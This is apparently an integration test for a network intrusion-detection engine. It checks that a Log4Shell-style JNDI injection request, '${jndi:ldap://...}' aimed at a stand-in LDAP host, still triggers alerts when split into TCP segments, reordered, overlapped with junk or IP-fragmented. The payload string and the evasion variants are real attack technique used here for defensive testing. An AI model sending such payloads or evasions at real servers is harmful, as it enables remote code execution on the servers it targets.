//! The same attack sent whole, split across TCP segments, out of order,
//! with overlapping retransmissions carrying other bytes, and across IP
//! fragments raises the same alert each way.

mod common;

use common::*;
use std::net::Ipv4Addr;
use vigie::synth::link::Ethernet;
use vigie::synth::packet::{IpBuilder, Ipv4Builder, TcpBuilder, tcp_flags};
use vigie::synth::pcap_writer::{PcapWriter, TsResolution, linktype};
use vigie::synth::{Frame, FrameTime};

const CLIENT: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 66);
const SERVER: Ipv4Addr = Ipv4Addr::new(10, 10, 0, 80);
const CISN: u32 = 1_000;
const SISN: u32 = 5_000;
const REQUEST: &[u8] =
    b"GET /search?q=${jndi:ldap://198.51.100.23:1389/a} HTTP/1.1\r\nHost: tickets.venue.example\r\nUser-Agent: curl/8\r\n\r\n";
/// sid 1 looks for one string; sid 2 for two, far apart, whose stronger
/// half (the prefilter's pattern) arrives before the other when split.
const RULES: &str = "alert tcp any any -> any 80 (msg:\"JNDI lookup\"; flow:established,to_server; \
                     content:\"${jndi:ldap://\"; nocase; sid:1;)\n\
                     alert tcp any any -> any 80 (msg:\"JNDI to the ticket host\"; flow:established,to_server; \
                     content:\"${jndi:ldap://198.51.100.23\"; fast_pattern; content:\"Host: tickets\"; distance:0; sid:2;)\n";

/// A segment of the connection as (direction is to server, seq offset, flags, payload).
struct Seg {
    to_server: bool,
    flags: u8,
    rel_seq: u32,
    payload: Vec<u8>,
}

fn seg(to_server: bool, flags: u8, rel_seq: u32, payload: &[u8]) -> Seg {
    Seg {
        to_server,
        flags,
        rel_seq,
        payload: payload.to_vec(),
    }
}

fn ip(to_server: bool) -> Ipv4Builder {
    if to_server {
        Ipv4Builder::new(CLIENT, SERVER)
    } else {
        Ipv4Builder::new(SERVER, CLIENT)
    }
}

fn tcp(s: &Seg) -> TcpBuilder {
    let (sp, dp, isn, peer) = if s.to_server {
        (40000, 80, CISN, SISN)
    } else {
        (80, 40000, SISN, CISN)
    };
    TcpBuilder {
        seq: isn.wrapping_add(s.rel_seq),
        ack: if s.flags & tcp_flags::ACK != 0 {
            peer + 1 + if s.to_server { 0 } else { REQUEST.len() as u32 }
        } else {
            0
        },
        flags: s.flags,
        ..TcpBuilder::new(sp, dp)
    }
}

/// Whole IP packets for `segs`, each optionally cut into IP fragments of
/// `frag` payload bytes (sent in `reverse` order when asked).
fn packets(segs: &[Seg], frag: Option<usize>, reverse_fragments: bool) -> Vec<Vec<u8>> {
    let mut out = Vec::new();
    for (i, s) in segs.iter().enumerate() {
        let b = ip(s.to_server);
        let t = tcp(s);
        match frag {
            Some(size) if !s.payload.is_empty() => {
                let segment = t.segment(&IpBuilder::V4(b.clone()), &s.payload);
                let mut pieces: Vec<Vec<u8>> = segment
                    .chunks(size)
                    .enumerate()
                    .map(|(k, chunk)| {
                        let mut fb = b.clone();
                        fb.id = 100 + i as u16;
                        fb.fragment_offset = (k * size / 8) as u16;
                        fb.more_fragments = (k + 1) * size < segment.len();
                        fb.build(6, chunk)
                    })
                    .collect();
                if reverse_fragments {
                    pieces.reverse();
                }
                out.extend(pieces);
            }
            _ => out.push(t.packet(&IpBuilder::V4(b), &s.payload)),
        }
    }
    out
}

fn handshake() -> Vec<Seg> {
    vec![
        seg(true, tcp_flags::SYN, 0, b""),
        seg(false, tcp_flags::SYN | tcp_flags::ACK, 0, b""),
        seg(true, tcp_flags::ACK, 1, b""),
    ]
}

fn closing() -> Vec<Seg> {
    let n = REQUEST.len() as u32;
    vec![
        seg(false, tcp_flags::ACK, 1, b""),
        seg(
            false,
            tcp_flags::ACK | tcp_flags::PSH,
            1,
            b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n",
        ),
        seg(true, tcp_flags::FIN | tcp_flags::ACK, 1 + n, b""),
    ]
}

/// The request cut at `cuts`, as data segments in the given order.
fn request_pieces(cuts: &[usize], order: &[usize]) -> Vec<Seg> {
    let mut bounds = vec![0];
    bounds.extend_from_slice(cuts);
    bounds.push(REQUEST.len());
    let pieces: Vec<Seg> = bounds
        .windows(2)
        .map(|w| {
            seg(
                true,
                tcp_flags::ACK | tcp_flags::PSH,
                1 + w[0] as u32,
                &REQUEST[w[0]..w[1]],
            )
        })
        .collect();
    let mut by_index: Vec<Option<Seg>> = pieces.into_iter().map(Some).collect();
    order
        .iter()
        .filter_map(|i| by_index.get_mut(*i).and_then(Option::take))
        .collect()
}

fn replay_variant(name: &str, ip_packets: Vec<Vec<u8>>) -> Vec<(u64, String, String)> {
    let mut got = replay_unsorted(name, ip_packets);
    got.sort();
    got
}

fn replay_unsorted(name: &str, ip_packets: Vec<Vec<u8>>) -> Vec<(u64, String, String)> {
    let dir = scratch(&format!("evasion-{name}"));
    let mut w = PcapWriter::new(Vec::new(), linktype::ETHERNET, TsResolution::Micros).unwrap();
    let eth = Ethernet::new([2, 0, 0, 0, 0, 1], [2, 0, 0, 0, 0, 2]);
    for (i, p) in ip_packets.iter().enumerate() {
        w.write_frame(&Frame::new(
            FrameTime::new(1_700_000_000, 0).plus_millis(i as u64),
            eth.ip_frame(p),
        ))
        .unwrap();
    }
    let cap = dir.join("variant.pcap");
    std::fs::write(&cap, w.into_inner().unwrap()).unwrap();
    let rules = write_rules(&dir, RULES);
    let (out, summary) = replay(&[&cap], &[&rules], &dir.join("logs"), &["-k", "all"]);
    assert!(out.status.success(), "{name}");
    assert_eq!(
        summary["anomalies"].as_array().map(|a| a
            .iter()
            .filter(|x| x[0].as_str().unwrap().starts_with("decoder"))
            .count()),
        Some(0),
        "{name}: {summary}"
    );
    alert_triples(&dir.join("logs"))
}

fn variant(name: &str, data: Vec<Seg>, frag: Option<usize>, reverse_fragments: bool) -> Vec<(u64, String, String)> {
    let mut segs = handshake();
    segs.extend(data);
    segs.extend(closing());
    replay_variant(name, packets(&segs, frag, reverse_fragments))
}

#[test]
fn every_evasion_raises_the_same_alert() {
    let expected = vec![
        (1u64, CLIENT.to_string(), SERVER.to_string()),
        (2u64, CLIENT.to_string(), SERVER.to_string()),
    ];
    let n = REQUEST.len();
    let whole = variant("whole", request_pieces(&[], &[0]), None, false);
    assert_eq!(whole, expected, "whole");

    // Three-byte segments, in order: the pattern spans many of them.
    let cuts: Vec<usize> = (3..n).step_by(3).collect();
    let order: Vec<usize> = (0..=cuts.len()).collect();
    assert_eq!(
        variant("split", request_pieces(&cuts, &order), None, false),
        expected,
        "split"
    );

    // Five pieces, last first.
    let cuts = [20, 30, 40, 60];
    assert_eq!(
        variant("out-of-order", request_pieces(&cuts, &[4, 3, 2, 1, 0]), None, false),
        expected,
        "out of order"
    );

    // The first copy of each byte wins: later overlapping copies carry junk
    // that would break the pattern if it were believed.
    let mut overlapping = vec![seg(true, tcp_flags::ACK | tcp_flags::PSH, 1, &REQUEST[..25])];
    let mut junk = REQUEST[15..n].to_vec();
    junk[..10].copy_from_slice(b"XXXXXXXXXX");
    overlapping.push(seg(true, tcp_flags::ACK | tcp_flags::PSH, 16, &junk));
    overlapping.push(seg(true, tcp_flags::ACK | tcp_flags::PSH, 1, &REQUEST[..n]));
    assert_eq!(
        variant("overlap", overlapping, None, false),
        expected,
        "overlapping retransmissions"
    );

    // IP fragments of 24 bytes, in order and reversed.
    assert_eq!(
        variant("fragments", request_pieces(&[], &[0]), Some(24), false),
        expected,
        "fragments"
    );
    assert_eq!(
        variant("fragments-reversed", request_pieces(&[], &[0]), Some(16), true),
        expected,
        "reversed fragments"
    );

    // Fragments of segments that are themselves out of order.
    assert_eq!(
        variant("both", request_pieces(&[40], &[1, 0]), Some(32), true),
        expected,
        "fragments and reordering"
    );
}
